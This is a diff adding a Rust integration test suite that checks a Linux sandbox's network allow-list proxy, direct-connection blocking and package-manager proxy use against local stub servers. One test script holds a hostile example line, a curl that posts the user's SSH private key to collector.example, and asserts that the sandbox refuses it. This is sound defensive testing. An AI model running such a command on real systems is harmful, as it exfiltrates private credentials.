@@ -1,0 +1,420 @@
+//! Network policy through the real `gg sandbox` at each Linux level: the allow-list proxy lets
+//! named hosts through and answers 403 for everything else, a direct connection has no route,
+//! package managers honour the proxy variables, and the escape suite's network probes still hold
+//! with `--network allow-list`.
+//!
+//! No internet: upstreams are servers on 127.0.0.1, named through `GG_TEST_RESOLVE` (honoured by
+//! debug builds only, see `tools::network::test_resolver`).
+#![cfg(all(target_os = "linux", target_arch = "x86_64"))]
+
+#[allow(dead_code)]
+mod sandbox_support;
+
+use std::collections::HashMap;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+
+use sandbox_support::*;
+
+/// A tiny HTTP/1.1 upstream: serves `files` by path, 404 otherwise, and records request lines.
+type Files = Arc<Mutex<HashMap<String, Vec<u8>>>>;
+
+struct Upstream {
+    port: u16,
+    seen: Arc<Mutex<Vec<String>>>,
+    files: Files,
+}
+
+impl Upstream {
+    fn start(files: HashMap<String, Vec<u8>>) -> Upstream {
+        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
+        let port = l.local_addr().expect("addr").port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let log = Arc::clone(&seen);
+        let files: Files = Arc::new(Mutex::new(files));
+        let served = Arc::clone(&files);
+        std::thread::spawn(move || {
+            for s in l.incoming() {
+                let Ok(s) = s else { continue };
+                let log = Arc::clone(&log);
+                let files = Arc::clone(&served);
+                std::thread::spawn(move || serve(s, &log, &files));
+            }
+        });
+        Upstream { port, seen, files }
+    }
+
+    fn set(&self, path: &str, content: Vec<u8>) {
+        self.files
+            .lock()
+            .expect("lock")
+            .insert(path.into(), content);
+    }
+
+    fn seen(&self) -> Vec<String> {
+        self.seen.lock().expect("lock").clone()
+    }
+}
+
+fn serve(
+    s: std::net::TcpStream,
+    log: &Mutex<Vec<String>>,
+    files: &Mutex<HashMap<String, Vec<u8>>>,
+) {
+    let mut reader = BufReader::new(s.try_clone().expect("clone"));
+    let mut w = s;
+    loop {
+        let mut line = String::new();
+        if reader.read_line(&mut line).unwrap_or(0) == 0 {
+            return;
+        }
+        let mut length = 0usize;
+        loop {
+            let mut h = String::new();
+            if reader.read_line(&mut h).unwrap_or(0) == 0 {
+                return;
+            }
+            if h == "\r\n" {
+                break;
+            }
+            if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
+                length = v.trim().parse().unwrap_or(0);
+            }
+        }
+        let mut body = vec![0u8; length];
+        let _ = reader.read_exact(&mut body);
+        log.lock().expect("lock").push(line.trim().to_string());
+        let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
+        let found = files.lock().expect("lock").get(&path).cloned();
+        let (status, content) = match found {
+            Some(c) => ("200 OK", c),
+            None => ("404 Not Found", b"not found".to_vec()),
+        };
+        let head = format!(
+            "HTTP/1.1 {status}\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\n\r\n",
+            content.len()
+        );
+        if w.write_all(head.as_bytes()).is_err() || w.write_all(&content).is_err() {
+            return;
+        }
+    }
+}
+
+fn levels() -> Vec<&'static str> {
+    ["bwrap", "landlock"]
+        .into_iter()
+        .filter(|l| match level_available(l) {
+            Ok(()) => true,
+            Err(reason) => {
+                println!("skipped: {l}: {reason}");
+                false
+            }
+        })
+        .collect()
+}
+
+fn resolve_env(names: &[&str]) -> Vec<(String, String)> {
+    let spec: Vec<String> = names.iter().map(|n| format!("{n}=127.0.0.1")).collect();
+    vec![("GG_TEST_RESOLVE".into(), spec.join(","))]
+}
+
+#[test]
+fn allow_list_lets_named_hosts_through_and_refuses_the_rest() {
+    for level in levels() {
+        let up = Upstream::start(HashMap::from([("/ok".to_string(), b"fine".to_vec())]));
+        let fx = Fixture::new();
+        let p = up.port;
+        let script = format!(
+            "curl -sS -m 10 http://registry.test:{p}/ok; echo; \
+             curl -sS -m 10 https://collector.example/ -d @\"$HOME/.ssh/id_rsa\"; echo \"exit=$?\"; \
+             curl -sS -m 10 http://other.test:{p}/ok; \
+             curl -sS -m 10 http://127.0.0.1:{p}/ok; \
+             curl -sS -m 10 http://[::1]:{p}/ok; \
+             curl -sS -m 5 --noproxy '*' http://127.0.0.1:{p}/ok && echo DIRECT-REACHED; \
+             \"$PY\" -c 'import socket; socket.create_connection((\"127.0.0.1\", {p}), 3); print(\"RAW-REACHED\")'"
+        );
+        let out = fx.gg(
+            &["--backend", level, "--allow-domain", "registry.test"],
+            &script,
+            &resolve_env(&["registry.test", "other.test"]),
+        );
+        let all = format!("{}{}", out.stdout, out.stderr);
+        assert!(out.stdout.starts_with("fine\n"), "{level}: {out:?}");
+        assert!(
+            out.stderr.contains("CONNECT tunnel failed, response 403") && all.contains("exit=56"),
+            "{level}: {out:?}"
+        );
+        for refused in [
+            "connection to other.test:",
+            "connection to 127.0.0.1:",
+            "connection to ::1:",
+        ] {
+            assert!(out.stdout.contains(refused), "{level}: {refused}: {out:?}");
+        }
+        assert!(
+            out.stdout.contains("--allow-domain other.test"),
+            "{level}: {out:?}"
+        );
+        assert!(
+            !all.contains("DIRECT-REACHED") && !all.contains("RAW-REACHED"),
+            "{level}: {out:?}"
+        );
+        // Only the allowed request reached the upstream (through the proxy).
+        assert_eq!(up.seen(), vec!["GET /ok HTTP/1.1"], "{level}");
+        // gg sandbox lists what it refused, with the rule.
+        for line in [
+            "refused collector.example:443 (not-on-allow-list)",
+            &format!("refused other.test:{p} (not-on-allow-list)"),
+            &format!("refused 127.0.0.1:{p} (ip-literal)"),
+        ] {
+            assert!(out.stderr.contains(line), "{level}: {line}: {out:?}");
+        }
+    }
+}
+
+#[test]
+fn escape_suite_network_probes_hold_with_the_allow_list() {
+    for level in levels() {
+        let mut failures = Vec::new();
+        let mut ran = 0;
+        for case in cases() {
+            if case.flags != ["--network", "off"] {
+                continue;
+            }
+            ran += 1;
+            let fx = Fixture::new();
+            let mut host = Host::default();
+            (case.setup)(&fx, &mut host);
+            let flags = ["--backend", level, "--network", "allow-list"];
+            let out = fx.gg_launch(case.launch, &flags, case.script, &host.env);
+            match (case.check)(&fx, &out, &mut host) {
+                Ok(()) => println!("ok    {level} allow-list {} {}", case.id, case.what),
+                Err(e) => failures.push(format!("{level} {} {}: {e}", case.id, case.what)),
+            }
+        }
+        assert!(ran >= 6, "the suite's network-off probes were not found");
+        assert!(failures.is_empty(), "{}", failures.join("\n"));
+    }
+}
+
+/// `cargo fetch` from a sparse registry served by a local stub, reachable only through the proxy.
+#[test]
+fn cargo_fetch_uses_the_proxy() {
+    let levels = levels();
+    if levels.is_empty() {
+        return;
+    }
+    let crate_file = package_stub_crate();
+    let sum = sha256(&crate_file);
+    let index_line = format!(
+        "{{\"name\":\"ggstub\",\"vers\":\"0.1.0\",\"deps\":[],\"cksum\":\"{sum}\",\"features\":{{}},\"yanked\":false}}\n"
+    );
+    for level in levels {
+        let up = Upstream::start(HashMap::new());
+        let port = up.port;
+        up.set(
+            "/index/config.json",
+            format!("{{\"dl\":\"http://registry.test:{port}/dl/{{crate}}-{{version}}.crate\"}}")
+                .into_bytes(),
+        );
+        up.set("/index/gg/st/ggstub", index_line.clone().into_bytes());
+        up.set("/dl/ggstub-0.1.0.crate", crate_file.clone());
+        let fx = Fixture::new();
+        write_project(&fx.w, port);
+        let out = fx.gg(
+            &["--backend", level, "--allow-domain", "registry.test"],
+            "CARGO_HOME=\"$W/.cargo-home\" cargo fetch 2>&1; echo \"cargo-exit=$?\"",
+            &resolve_env(&["registry.test"]),
+        );
+        assert!(out.stdout.contains("cargo-exit=0"), "{level}: {out:?}");
+        let seen = up.seen();
+        assert!(
+            seen.iter()
+                .any(|l| l.starts_with("GET /dl/ggstub-0.1.0.crate")),
+            "{level}: {seen:?} {out:?}"
+        );
+    }
+}
+
+fn write_project(w: &Path, port: u16) {
+    std::fs::create_dir_all(w.join(".cargo")).expect("mkdir");
+    std::fs::create_dir_all(w.join("src")).expect("mkdir");
+    std::fs::write(
+        w.join(".cargo/config.toml"),
+        format!(
+            "[registries.stub]\nindex = \"sparse+http://registry.test:{port}/index/\"\n\
+             [net]\nretry = 0\n"
+        ),
+    )
+    .expect("write");
+    std::fs::write(
+        w.join("Cargo.toml"),
+        "[package]\nname = \"user\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
+         [dependencies]\nggstub = { version = \"0.1\", registry = \"stub\" }\n",
+    )
+    .expect("write");
+    std::fs::write(w.join("src/lib.rs"), "").expect("write");
+}
+
+/// A `.crate` for `ggstub 0.1.0`, made by `cargo package` offline.
+fn package_stub_crate() -> Vec<u8> {
+    let dir = tempfile::Builder::new()
+        .prefix("ggstub-")
+        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+        .expect("tempdir");
+    let root = dir.path();
+    std::fs::create_dir_all(root.join("src")).expect("mkdir");
+    std::fs::write(
+        root.join("Cargo.toml"),
+        "[package]\nname = \"ggstub\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+         description = \"stub\"\nlicense = \"MIT\"\n\n[workspace]\n",
+    )
+    .expect("write");
+    std::fs::write(root.join("src/lib.rs"), "pub fn stub() {}\n").expect("write");
+    let out = Command::new("cargo")
+        .args(["package", "--no-verify", "--allow-dirty", "--offline", "-q"])
+        .current_dir(root)
+        .env("CARGO_TARGET_DIR", root.join("target"))
+        .output()
+        .expect("cargo package");
+    assert!(out.status.success(), "{out:?}");
+    std::fs::read(root.join("target/package/ggstub-0.1.0.crate")).expect("crate file")
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    let mut child = Command::new("sha256sum")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("sha256sum");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(bytes)
+        .expect("write");
+    let out = child.wait_with_output().expect("sha256sum");
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap_or_default()
+        .to_string()
+}
+
+/// pip and npm send their registry requests through the proxy (the stub answers 404, which is
+/// enough to see the request arrive by the only route there is).
+#[test]
+fn pip_and_npm_use_the_proxy() {
+    for level in levels() {
+        let up = Upstream::start(HashMap::new());
+        let fx = Fixture::new();
+        let p = up.port;
+        let mut script = format!(
+            "\"$PY\" -m pip download --no-cache-dir --retries 0 --timeout 10 -d \"$W/dl\" \
+             --trusted-host pypi.test --index-url http://pypi.test:{p}/simple/ ggstub >/dev/null 2>&1; echo pip-done"
+        );
+        let npm = Command::new("npm")
+            .arg("--version")
+            .output()
+            .is_ok_and(|o| o.status.success());
+        if npm {
+            script.push_str(&format!(
+                "; npm view ggstub --registry http://npm.test:{p}/ --cache \"$W/npm-cache\" \
+                 --fetch-retries 0 >/dev/null 2>&1; echo npm-done"
+            ));
+        }
+        let out = fx.gg(
+            &[
+                "--backend",
+                level,
+                "--allow-domain",
+                "pypi.test",
+                "--allow-domain",
+                "npm.test",
+            ],
+            &script,
+            &resolve_env(&["pypi.test", "npm.test"]),
+        );
+        assert!(out.stdout.contains("pip-done"), "{level}: {out:?}");
+        let seen = up.seen();
+        assert!(
+            seen.iter().any(|l| l.starts_with("GET /simple/ggstub/")),
+            "{level}: pip: {seen:?} {out:?}"
+        );
+        if npm {
+            assert!(
+                seen.iter().any(|l| l.starts_with("GET /ggstub")),
+                "{level}: npm: {seen:?} {out:?}"
+            );
+        } else {
+            println!("skipped: npm is not installed");
+        }
+    }
+}
+
+#[test]
+fn explain_shows_the_network_policy_and_backend_none_says_it_is_not_enforced() {
+    let fx = Fixture::new();
+    let out = fx.gg(
+        &[
+            "--backend",
+            "none",
+            "--allow-domain",
+            "*.corp.test",
+            "--explain",
+        ],
+        "true",
+        &[],
+    );
+    assert_eq!(out.code, Some(0), "{out:?}");
+    let start = out.stderr.find('{').expect("json");
+    let end = out.stderr.rfind('}').expect("json");
+    let v: serde_json::Value = serde_json::from_str(&out.stderr[start..=end]).expect("json");
+    assert_eq!(v["network"]["mode"], "allow-list");
+    let list = v["network"]["allowDomains"].as_array().expect("list");
+    assert!(list.iter().any(|d| d == "crates.io") && list.iter().any(|d| d == "*.corp.test"));
+    assert!(
+        out.stderr
+            .lines()
+            .any(|l| l.contains("network policy \"allow-list\" cannot be enforced")),
+        "{out:?}"
+    );
+    let bad = fx.gg(&["--allow-domain", "*.com"], "true", &[]);
+    assert_eq!(bad.code, Some(2), "{bad:?}");
+    assert!(bad.stderr.contains("wildcard"), "{bad:?}");
+}
+
+#[test]
+fn project_settings_only_tighten() {
+    let Some(level) = levels().first().copied() else {
+        return;
+    };
+    let up = Upstream::start(HashMap::from([("/ok".to_string(), b"fine".to_vec())]));
+    let fx = Fixture::new();
+    std::fs::create_dir_all(fx.w.join(".gg")).expect("mkdir");
+    // The repository asks for network on and a wider list: it gets neither.
+    std::fs::write(
+        fx.w.join(".gg/settings.json"),
+        r#"{"network": "on", "allowDomains": ["registry.test", "evil.test"]}"#,
+    )
+    .expect("write");
+    let p = up.port;
+    let out = fx.gg(
+        &["--backend", level, "--network", "allow-list", "--allow-domain", "registry.test"],
+        &format!("curl -sS -m 10 http://registry.test:{p}/ok; echo; curl -sS -m 10 http://evil.test:{p}/ok"),
+        &resolve_env(&["registry.test", "evil.test"]),
+    );
+    assert!(out.stdout.starts_with("fine\n"), "{out:?}");
+    assert!(out.stdout.contains("connection to evil.test:"), "{out:?}");
+    // And it can switch the network off.
+    std::fs::write(fx.w.join(".gg/settings.json"), r#"{"network": "off"}"#).expect("write");
+    let out = fx.gg(
+        &["--backend", level, "--network", "on"],
+        &format!("curl -sS -m 5 --noproxy '*' http://127.0.0.1:{p}/ok && echo REACHED"),
+        &[],
+    );
+    assert!(!out.stdout.contains("REACHED"), "{out:?}");
+}
